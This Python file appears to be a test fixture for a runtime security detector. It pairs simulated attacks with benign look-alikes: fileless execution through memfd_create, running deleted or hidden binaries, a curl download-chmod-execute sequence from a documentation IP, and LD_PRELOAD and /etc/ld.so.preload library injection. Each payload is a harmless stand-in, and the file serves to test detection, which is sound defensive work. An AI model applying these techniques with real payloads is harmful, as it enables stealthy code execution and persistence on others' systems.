# SPDX-License-Identifier: Apache-2.0
"""30-dropped.yaml: programs and libraries that were not in the image."""

from __future__ import annotations

from proof import Proof, Python

PROOFS = [
    Proof("Program run from memory", attack=Python("""
import os
memory = os.memfd_create("x")
os.write(memory, open("/usr/bin/true", "rb").read())
os.execv(f"/proc/self/fd/{memory}", ["true"])
"""), others=(Python("""
import calls, ctypes, os
memory = os.memfd_create("runc_cloned:x")
os.write(memory, open("/usr/bin/true", "rb").read())
words = (ctypes.c_char_p * 2)(b"dpkg", None)
calls.execveat(memory, b"", words, words, 0x1000)
"""),), look_alike=Python("""
import os
memory = os.memfd_create("x", 0)
os.write(memory, open("/usr/bin/true", "rb").read())
os.execv("/usr/bin/true", ["true"])
""")),

    Proof("Deleted program run", attack="""
cp /usr/bin/true /srv/deleted
exec 9</srv/deleted
rm /srv/deleted
exec /proc/self/fd/9
""", look_alike="true; cp /usr/bin/true /srv/data; exec 9</srv/data; rm /srv/data; wc -c <&9"),

    Proof("Downloaded, made executable and run", attack="""
curl -s -o /srv/download http://203.0.113.9/program
chmod +x /srv/download
/srv/download
""", look_alike="curl -s -o /srv/download http://203.0.113.9/program; chmod 644 /srv/download; wc -c /srv/download"),

    Proof("Program run from a temporary directory", attack="cp /usr/bin/true /tmp/x; /tmp/x",
          others=("cp /usr/bin/true /var/tmp/dpkg; cd /; exec var/tmp/dpkg",),
          look_alike="cp /usr/bin/true /tmp/x; cd /tmp; true"),

    Proof("Hidden program run", attack="mkdir -p /srv/.x; cp /usr/bin/true /srv/.x/tool; /srv/.x/tool",
          look_alike="mkdir -p /srv/x; cp /usr/bin/true /srv/x/tool; /srv/x/tool"),

    Proof("New program run in a container", attack="cp /usr/bin/true /srv/tool; /srv/tool",
          look_alike="cp /usr/bin/true /srv/tool; true"),

    Proof("Library mapped from a temporary directory",
          before="cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/x.so",
          attack=Python("import ctypes; ctypes.CDLL(\"/tmp/x.so\")"),
          look_alike=Python("import ctypes; ctypes.CDLL(\"libm.so.6\"); open(\"/tmp/x.so\", \"rb\").read()")),

    Proof("New library mapped in a container", before="cp /lib/x86_64-linux-gnu/libm.so.6 /srv/new.so",
          attack="LD_PRELOAD=/srv/new.so /usr/bin/true",
          look_alike="LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6 /usr/bin/true; cat /srv/new.so >/dev/null"),

    Proof("Library forced on a program",
          attack="cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/preload.so; LD_PRELOAD=/tmp/preload.so /usr/bin/true",
          others=("LD_AUDIT=/tmp/preload.so /usr/bin/true || true",),
          look_alike="LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6 /usr/bin/true"),

    Proof("Library forced on all programs",
          attack="echo /lib/x86_64-linux-gnu/libm.so.6 >/etc/ld.so.preload; rm /etc/ld.so.preload",
          others=("echo /lib/x86_64-linux-gnu/libm.so.6 >/etc/x; mv /etc/x /etc/ld.so.preload; rm /etc/ld.so.preload",
                  "echo /lib/x86_64-linux-gnu/libm.so.6 >/srv/list; ln -s /srv/list /etc/ld.so.preload; rm /etc/ld.so.preload"),
          look_alike="echo /opt/lib >/etc/ld.so.conf.d/opt.conf; ldconfig"),

    Proof("New program makes its memory executable", before="cp /usr/bin/python3.11 /srv/python",
          attack="/srv/python -c 'import mmap; mmap.mmap(-1, 4096, prot=7)'",
          look_alike="python3 -c 'import mmap; mmap.mmap(-1, 4096, prot=7)'; "
                     "/srv/python -c 'import mmap; mmap.mmap(-1, 4096)'"),
]
